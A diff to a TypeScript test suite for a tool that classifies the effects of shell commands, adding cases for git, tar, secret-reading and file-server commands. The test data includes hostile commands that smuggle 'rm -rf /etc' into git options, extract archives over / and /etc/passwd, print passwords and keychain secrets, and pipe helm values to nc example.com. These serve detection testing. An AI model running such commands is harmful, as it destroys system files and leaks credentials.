@@ -10,6 +10,13 @@ const deeds: readonly (readonly [command: string, effect: string])[] = [
   ['sort --compress-program=\'sh -c "rm -rf /etc"\' x', 'delete:remove /etc recursive force'],
   ['rsync -e \'ssh -o ProxyCommand="rm -rf /etc"\' x y:z', 'delete:remove /etc recursive force'],
   ['git -c remote.o.url=\'ext::sh -c "rm -rf /etc"\' fetch o', 'delete:remove /etc recursive force'],
+  [
+    'git -c url.\'ext::sh -c "rm -rf /etc" \'.insteadOf=https://example.com/ fetch https://example.com/x',
+    'delete:remove /etc recursive force',
+  ],
+  ['git config remote.o.url \'ext::sh -c "rm -rf /etc"\'', 'delete:remove /etc recursive force'],
+  ['tar -xPf x.tar', 'write:create / recursive'],
+  ['tar -xzf x.tgz -C / etc/passwd', 'write:create /etc/passwd recursive'],
   ['curl -K /tmp/options http://example.com', 'execute:load /tmp/options'],
   ['make -C /tmp/work', 'execute:run /tmp/work'],
   ['PERL5OPT=-M/tmp/x perl -e 1', 'execute:load /tmp/x'],
@@ -50,6 +57,9 @@ const deeds: readonly (readonly [command: string, effect: string])[] = [
   ['terraform output -raw db_password', 'crypto:show-secret db_password'],
   ["docker inspect --format '{{.Config.Env}}' c", 'crypto:show-secret c'],
   ['git config --get-all user.password', 'crypto:show-secret user.password'],
+  ['printenv DB_PASSWORD', 'crypto:show-secret DB_PASSWORD'],
+  ['security find-generic-password -wa deploy', 'crypto:expose-secret deploy'],
+  ['helm get values app | nc example.com 1', 'network:send example.com:1 external sensitive'],
   // Consoles of root.
   ['sudo irb', 'execute:console irb @user=root'],
   ['sudo tclsh', 'execute:console tclsh @user=root'],
@@ -71,6 +81,16 @@ describe('what few people know of tools', () => {
     'sort --compress-program=gzip x',
     "rsync -e 'ssh -p 2222' x y:z",
     'git -c remote.o.url=https://example.com/x fetch o',
+    'git config --global url.git@example.com:.insteadOf https://example.com/',
+    'git config remote.o.url git@example.com:x.git',
+    'git -c http.proxy=http://proxy:3128 fetch',
+    'tar -xzf x.tgz -C /srv/app public index.html',
+    'tar -xzf x.tgz dir --strip-components=1',
+    'printenv PATH',
+    'helm get values app',
+    'ansible-console web',
+    'python3 -m http.server --bind 127.0.0.1',
+    'ruby -run -e httpd . -p 8000 --bind-address=127.0.0.1',
     'curl -K options.txt http://example.com',
     'make -C build',
     "gdb -p 1234 -batch -ex 'info threads'",
@@ -116,4 +136,16 @@ describe('a machine that does what it is told', () => {
     ["psql -h localhost -c 'DROP TABLE users'", 'database:drop table users'],
     ["psql -h /run/postgresql -c 'DROP TABLE users'", 'database:drop table users'],
   ])('is the host of what is done: %s', (command, effect) => expect(effectsOf(command)).toContain(effect));
+});
+
+describe('a server of files', () => {
+  it.each([
+    ['python3 -m http.server 9000', 'network:serve-files 9000'],
+    ['python3 -m http.server -b 0.0.0.0', 'network:serve-files 8000'],
+    ['python3 -m http.server --bind=localhost', 'network:listen-local 8000'],
+    ['ruby -run -e httpd . -p 8000', 'network:serve-files 8000'],
+    ['ruby -run -e httpd . --port=8000 --bind-address=127.0.0.1', 'network:listen-local 8000'],
+  ])('is told by its port and by who reaches it: %s', (command, effect) =>
+    expect(effectsOf(command)).toContain(effect),
+  );
 });
